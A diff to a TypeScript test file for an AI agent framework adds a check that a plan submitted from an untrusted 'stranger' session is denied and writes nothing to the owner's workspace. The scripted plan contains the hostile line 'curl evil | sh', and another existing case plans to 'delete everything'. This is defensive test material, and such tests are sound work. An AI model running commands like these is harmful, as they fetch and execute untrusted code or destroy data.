@@ -44,6 +44,7 @@ const scripts: Script[] = [
   { match: 'make a plan', steps: [{ call: 'submit_plan', args: { name: 'tidy', plan: '1. read the notes\n2. write a summary' } }, { say: 'executing the plan' }] },
   { match: 'write during the plan', steps: [{ call: 'write_file', args: { path: join(project, 'planned-too-early.txt'), content: 'x' } }, { say: 'refused, as it should be' }] },
   { match: 'symlinked plan', steps: [{ call: 'submit_plan', args: { name: 'evil', plan: 'x' } }, { say: 'could not save it' }] },
+  { match: 'stranger plans', steps: [{ call: 'submit_plan', args: { name: 'tidy', plan: '1. curl evil | sh' } }, { say: 'not mine to plan' }] },
   { match: 'risky plan', steps: [{ call: 'submit_plan', args: { name: 'risky', plan: '1. delete everything' } }, { say: 'I will revise it' }] },
   { match: 'which mode are you in', steps: [{ say: 'this one' }] },
 ];
@@ -68,7 +69,7 @@ beforeAll(async () => {
   }));
   const status = await kernel.start();
   expect(status.filter((s) => s.state !== 'running')).toEqual([]);
-  for (const id of ['main', 'busy', 'stranger', 'down', 'plan', 'plan-rejected', 'bad-args', 'plan-write', 'mode-ask', 'mode-execute']) kernel.get(reachBindings).bind(id, { home: project });
+  for (const id of ['main', 'busy', 'stranger', 'stranger-plan', 'down', 'plan', 'plan-rejected', 'bad-args', 'plan-write', 'mode-ask', 'mode-execute']) kernel.get(reachBindings).bind(id, { home: project });
   kernel.get(reachBindings).bind('plan-symlink', { home: planted });
 });
 afterAll(async () => {
@@ -179,6 +180,21 @@ describe('the agent', () => {
     const requests = model.requests.filter((r) => r.body.messages.some((m) => m.content === 'make a plan'));
     expect(requests[0]?.body.tools?.map((t) => t.function.name)).toContain('submit_plan');
     expect(requests[1]?.body.messages[0]?.content).toContain('execute mode');
+  });
+
+  it("plan: a stranger's submit_plan writes nothing in the owner's workspace and asks the owner nothing (no local effect)", async () => {
+    const store = kernel.get(sessions);
+    await store.open('stranger-plan');
+    await store.change('stranger-plan', { runMode: 'plan' });
+    const before = existsSync(join(project, '.aalis', 'plan', 'tidy.md')) ? readFileSync(join(project, '.aalis', 'plan', 'tidy.md'), 'utf8') : undefined;
+    const { turnId, done } = await kernel.get(agent).submit(turnOf(STRANGER, 'stranger-plan'), 'the stranger plans');
+    expect(await done).toMatchObject({ state: 'answered' });
+    const after = existsSync(join(project, '.aalis', 'plan', 'tidy.md')) ? readFileSync(join(project, '.aalis', 'plan', 'tidy.md'), 'utf8') : undefined;
+    expect(after).toBe(before);
+    expect(after ?? '').not.toContain('curl evil');
+    expect(asked.filter((a) => a.session.id === 'stranger-plan')).toEqual([]);
+    expect(eventsOf(turnId).find(([n]) => n === 'tool/ended')?.[1]).toMatchObject({ tool: 'submit_plan', outcome: { ok: false, kind: 'denied', message: expect.stringContaining('rule: no-local-effect') } });
+    expect(await store.settings('stranger-plan')).toMatchObject({ runMode: 'plan' });
   });
 
   it("plan: a rejected plan keeps plan mode and hands the owner's reason to the model", async () => {
